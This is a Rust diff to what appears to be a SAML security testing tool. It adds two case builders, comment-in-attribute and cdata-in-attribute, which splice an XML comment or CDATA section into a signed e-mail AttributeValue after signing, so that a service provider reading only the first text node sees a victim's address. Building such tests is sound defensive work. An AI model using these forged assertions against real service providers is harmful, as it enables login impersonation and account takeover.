@@ -18,6 +18,8 @@ pub(super) const BUILDERS: &[(&str, Builder)] = &[
     ("saml.pi-in-nameid", pi_in_nameid),
     ("saml.cdata-in-nameid", cdata_in_nameid),
     ("saml.charref-in-nameid", charref_in_nameid),
+    ("saml.comment-in-attribute", comment_in_attribute),
+    ("saml.cdata-in-attribute", cdata_in_attribute),
     ("saml.doctype", doctype),
     ("saml.doctype-differential", doctype_differential),
     ("saml.signature-wrong-namespace", signature_wrong_namespace),
@@ -41,6 +43,39 @@ fn split_nameid(ctx: &CaseContext<'_>, inner: &str, before_signing: bool) -> Res
         signed_attributes: super::signed_attributes(&spec),
         ..post(ctx, &xml, true)
     })
+}
+
+/// The IdP vouches for `<victim>.evil.test` and signs it as the e-mail attribute too; after
+/// signing, the first `AttributeValue` holding it is written as `inner`, splitting it after the
+/// victim's address. An SP that reads only the first text node of the attribute gets the
+/// victim's address, which the session's attributes then show.
+fn split_attribute(ctx: &CaseContext<'_>, inner: &str) -> Result<BuiltCase> {
+    let whole = format!("{}.evil.test", ctx.forged_name_id);
+    let spec = ctx.spec.for_subject(&whole);
+    let signed = both_signed(&spec, &idp_opts(ctx))?;
+    let value = format!(">{}<", escape_text(&whole));
+    let at = signed
+        .find(&format!("<saml:AttributeValue{value}"))
+        .map(|i| i + "<saml:AttributeValue".len())
+        .ok_or_else(|| {
+            crate::saml::error::SamlError::Splice("no AttributeValue with the address".into())
+        })?;
+    let xml = splice::replace(&signed, at, at + value.len(), &format!(">{inner}<"));
+    Ok(BuiltCase {
+        original_user: whole,
+        signed_attributes: super::signed_attributes(&spec),
+        ..post(ctx, &xml, true)
+    })
+}
+
+fn comment_in_attribute(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
+    let victim = escape_text(&ctx.forged_name_id);
+    split_attribute(ctx, &format!("{victim}<!---->.evil.test"))
+}
+
+fn cdata_in_attribute(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
+    let victim = escape_text(&ctx.forged_name_id);
+    split_attribute(ctx, &format!("{victim}<![CDATA[.evil.test]]>"))
 }
 
 fn comment_in_nameid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
